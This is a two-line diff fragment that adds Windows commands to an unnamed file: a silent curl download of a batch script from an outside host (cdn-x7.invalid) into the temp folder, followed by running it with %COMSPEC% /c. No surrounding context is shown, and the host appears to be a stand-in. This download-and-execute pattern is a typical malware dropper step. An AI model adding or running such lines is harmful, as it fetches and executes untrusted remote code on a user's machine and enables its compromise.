@@ -1,0 +1,2 @@
+curl -so "%TMP%\a.bat" https://cdn-x7.invalid/a
+%COMSPEC% /c "%TMP%\a.bat"
